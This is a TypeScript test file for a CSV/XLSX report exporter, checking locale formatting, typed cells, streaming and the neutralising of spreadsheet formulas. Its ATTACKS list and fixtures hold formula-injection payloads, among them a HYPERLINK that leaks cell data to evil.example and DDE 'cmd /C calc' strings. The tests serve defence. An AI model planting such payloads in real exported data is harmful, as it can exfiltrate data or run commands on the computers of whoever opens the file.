import { describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import {
  csvStream,
  csvText,
  date,
  dateTime,
  isFormulaLike,
  num,
  text,
  toCsv,
  toXlsx,
  xlsxStream,
  type Cell,
  type Table,
} from './export.js';
import { parseCsv, readXlsx, textsOf } from '../features/reports/report-files.test-support.js';

const ATTACKS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Жми")',
  "-2+3+cmd|' /C calc'!A0",
  "+cmd|' /C notepad'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=1+2',
  '-1+1',
  '+1+1',
  '\t=1+2',
  ' =cmd|calc',
  '\r=1+2',
  '\uff1dHYPERLINK("x")',
];

describe('what a spreadsheet would run', () => {
  it.each(ATTACKS)('%j is formula-like', (v) => expect(isFormulaLike(v)).toBe(true));

  it.each(['-15', '-15.50', '+15', '+7 (495) 123-45-67', '+74951234567', '+7-495-123-45-67', '8 (495) 123-45-67; +7 495 765-43-21'])(
    '%j is a number or a phone, not a formula',
    (v) => expect(isFormulaLike(v)).toBe(false),
  );

  it.each([
    ['ООО «Ромашка»', 'ООО «Ромашка»'],
    ['=HYPERLINK("x")', `'=HYPERLINK("x")`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    // Phones and numbers written as text stay text in the spreadsheet: a tab, no visible mark.
    ['84951234567', '\t84951234567'],
    ['+74951234567', '\t+74951234567'],
    ['+7 (495) 123-45-67', '\t+7 (495) 123-45-67'],
    ['+7-495-123-45-67', '\t+7-495-123-45-67'],
    ['8 (495) 123-45-67', '\t8 (495) 123-45-67'],
    ['-15', '\t-15'],
    ['7707083893', '\t7707083893'],
    ['21.12.2026', '\t21.12.2026'],
    // Letters make it text anyway.
    ['8 (495) 123-45-67 доб. 123', '8 (495) 123-45-67 доб. 123'],
    ['№12 Звонок', '№12 Звонок'],
  ])('CSV writes %j as %j', (input, expected) => expect(csvText(input)).toBe(expected));
});

const table = (lang: 'ru' | 'en', rows = ROWS): Table<Cell[][]> => ({
  title: 'Отчет: тест/1',
  headers: ['Наименование', 'Телефон', 'Количество', 'Доля', 'Дата', 'Начало'],
  rows,
  lang,
  timeZone: 'Europe/Moscow',
});
const ROWS = [
  [
    text('=HYPERLINK("http://evil","Жми")'),
    text('84951234567'),
    num(12),
    num(1 / 3, { format: 'percent' }),
    date('2026-12-21'),
    dateTime('2026-12-21T11:30:00.000Z'),
  ],
  [text("-2+3+cmd|' /C calc'!A0"), text('+7 (495) 123-45-67'), num(-15), num(null), date(null), dateTime(null)],
  [text("'уже с апострофом", { bold: true }), text('+7-495-123-45-67; 8 (812) 555-12-34'), num(1234.5), null, null, null],
  [text('Петрова', { indent: 2 }), null, num(0), num(0.5, { format: 'percent' }), date('2026-11-01', { format: 'month' }), null],
];

describe('CSV', () => {
  it('Russian: BOM, ";", decimal comma, dd.mm.yyyy, phones as text, formulas neutralised', () => {
    const bytes = toCsv(table('ru'));
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const rows = parseCsv(bytes, ';');
    expect(rows[0]).toEqual(['Наименование', 'Телефон', 'Количество', 'Доля', 'Дата', 'Начало']);
    expect(rows[1]).toEqual([`'=HYPERLINK("http://evil","Жми")`, '\t84951234567', '12', '33,33%', '21.12.2026', '21.12.2026 14:30']);
    expect(rows[2]).toEqual([`'-2+3+cmd|' /C calc'!A0`, '\t+7 (495) 123-45-67', '-15', '', '', '']);
    expect(rows[3]).toEqual([`'уже с апострофом`, '\t+7-495-123-45-67; 8 (812) 555-12-34', '1234,5', '', '', '']);
    expect(rows[4]).toEqual(['    Петрова', '', '0', '50%', '01.11.2026', '']);
    // No field a spreadsheet would run: what starts (after blanks) with = + - @ is a number or a phone after a tab.
    for (const f of rows.flat()) if (/^\s*[=+\-@]/.test(f)) expect(f).toMatch(/^(-?\d+(,\d+)?|\t[\d\s+\-().;]+)$/);
  });

  it('English: "," with a decimal point and ISO dates', () => {
    const rows = parseCsv(toCsv(table('en')), ',');
    expect(rows[1].slice(2)).toEqual(['12', '33.33%', '2026-12-21', '2026-12-21 14:30']);
    expect(rows[3][2]).toBe('1234.5');
  });

  it('several tables follow one another under their titles', () => {
    const rows = parseCsv(toCsv([table('ru', [[text('a')]]), { ...table('ru', [[num(1)]]), title: 'Второй' }]), ';');
    expect(rows.map((r) => r[0])).toEqual(['Отчет: тест/1', 'Наименование', 'a', '', 'Второй', 'Наименование', '1']);
  });
});

describe('XLSX', () => {
  it('writes numbers as numbers, dates as dates with a format, text as text without marks', async () => {
    const [sheet] = await readXlsx(await toXlsx(table('ru')));
    expect(sheet.name).toBe('Отчет  тест 1');
    const [head, r1, r2, r3, r4] = sheet.rows;
    expect(head.map((c) => c.value)).toEqual(['Наименование', 'Телефон', 'Количество', 'Доля', 'Дата', 'Начало']);
    expect(head.every((c) => c.bold)).toBe(true);

    expect(r1[0]).toMatchObject({ type: ExcelJS.ValueType.String, value: '=HYPERLINK("http://evil","Жми")' });
    expect(r1[1]).toMatchObject({ type: ExcelJS.ValueType.String, value: '84951234567' });
    expect(r1[2]).toMatchObject({ type: ExcelJS.ValueType.Number, value: 12 });
    expect(r1[3]).toMatchObject({ type: ExcelJS.ValueType.Number, value: 1 / 3, numFmt: '0.0%' });
    expect(r1[4]).toMatchObject({ type: ExcelJS.ValueType.Date, value: new Date('2026-12-21T00:00:00Z'), numFmt: 'dd.mm.yyyy' });
    // 11:30 UTC is 14:30 in Moscow: the workbook holds the wall clock the user lives in.
    expect(r1[5]).toMatchObject({ type: ExcelJS.ValueType.Date, value: new Date('2026-12-21T14:30:00Z'), numFmt: 'dd.mm.yyyy hh:mm' });

    expect(r2[0]).toMatchObject({ type: ExcelJS.ValueType.String, value: "-2+3+cmd|' /C calc'!A0" });
    expect(r2[1].value).toBe('+7 (495) 123-45-67');
    expect(r2[2]).toMatchObject({ type: ExcelJS.ValueType.Number, value: -15 });
    expect(r2[3].type).toBe(ExcelJS.ValueType.Null);
    // What the user typed stays, apostrophe included; nothing else starts with one.
    expect(r3[0]).toMatchObject({ value: "'уже с апострофом", bold: true });
    expect(textsOf([sheet]).filter((v) => v.startsWith("'"))).toEqual(["'уже с апострофом"]);
    expect(r4[0].value).toBe('Петрова');
    expect(sheet.sheet.getCell('A5').alignment).toMatchObject({ indent: 2 });
    expect(r4[4]).toMatchObject({ type: ExcelJS.ValueType.Date, numFmt: '[$-419]mmmm yyyy' });

    const formulas = sheet.rows.flat().filter((c) => c.type === ExcelJS.ValueType.Formula);
    expect(formulas).toEqual([]);
  });

  it('uses ISO date formats in English', async () => {
    const [sheet] = await readXlsx(await toXlsx(table('en')));
    expect(sheet.rows[1][4].numFmt).toBe('yyyy-mm-dd');
    expect(sheet.rows[1][5].numFmt).toBe('yyyy-mm-dd hh:mm');
  });

  it('prints landscape on one page wide with the header row on every page', async () => {
    const [{ sheet }] = await readXlsx(await toXlsx(table('ru')));
    expect(sheet.pageSetup).toMatchObject({
      orientation: 'landscape',
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      paperSize: 9,
      printTitlesRow: '1:1',
    });
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet.autoFilter).toBeTruthy();
  });

  it('one sheet per table, with distinct names', async () => {
    const sheets = await readXlsx(await toXlsx([table('ru', [[num(1)]]), table('ru', [[num(2)]])]));
    expect(sheets.map((s) => s.name)).toEqual(['Отчет  тест 1', 'Отчет  тест 1 2']);
    expect(sheets[1].rows[1][0].value).toBe(2);
  });
});

async function bytesOf(stream: NodeJS.ReadableStream): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const c of stream) chunks.push(Buffer.from(c as Buffer));
  return Buffer.concat(chunks);
}

/** Rows from an async source, a page at a time, as the reports read them from the database. */
async function* pages(n: number, failAt?: number): AsyncGenerator<Cell[]> {
  for (let i = 0; i < n; i++) {
    if (i === failAt) throw new Error('database went away');
    if (i % 2000 === 0) await new Promise((resolve) => setImmediate(resolve));
    yield [text(`Строка ${i}`), text('=1+2'), num(i), date('2026-12-21')];
  }
}
const streamed = (lang: 'ru' | 'en', rows: AsyncIterable<Cell[]>): Table => ({
  title: 'Поток',
  headers: ['Наименование', 'Формула', 'Число', 'Дата'],
  rows,
  lang,
  timeZone: 'UTC',
});

describe('streamed files', () => {
  it('CSV from an async source: the same text as the in-memory writer', async () => {
    const rows: Cell[][] = [];
    for await (const r of pages(5000)) rows.push(r);
    const fromStream = await bytesOf(csvStream(streamed('ru', pages(5000))));
    expect(fromStream.equals(toCsv({ ...streamed('ru', pages(0)), rows }))).toBe(true);
    const parsed = parseCsv(fromStream, ';');
    expect(parsed).toHaveLength(5001);
    expect(parsed[4999]).toEqual(['Строка 4998', "'=1+2", '4998', '21.12.2026']);
  });

  it('XLSX from an async source: typed cells, formats, no formulas, every row', async () => {
    const [sheet] = await readXlsx(await bytesOf(xlsxStream(streamed('en', pages(3000)))));
    expect(sheet.rows).toHaveLength(3001);
    expect(sheet.rows[0].every((c) => c.bold)).toBe(true);
    const last = sheet.rows[3000];
    expect(last[0]).toMatchObject({ type: ExcelJS.ValueType.String, value: 'Строка 2999' });
    expect(last[1]).toMatchObject({ type: ExcelJS.ValueType.String, value: '=1+2' });
    expect(last[2]).toMatchObject({ type: ExcelJS.ValueType.Number, value: 2999 });
    expect(last[3]).toMatchObject({ type: ExcelJS.ValueType.Date, numFmt: 'yyyy-mm-dd' });
    expect(sheet.rows.flat().filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(sheet.sheet.pageSetup).toMatchObject({ orientation: 'landscape', printTitlesRow: '1:1' });
  });

  it('a source failing mid-way destroys the stream with its error: never a complete-looking file', async () => {
    await expect(bytesOf(csvStream(streamed('ru', pages(5000, 4500))))).rejects.toThrow('database went away');
    await expect(bytesOf(xlsxStream(streamed('ru', pages(5000, 4500))))).rejects.toThrow('database went away');
  });
});
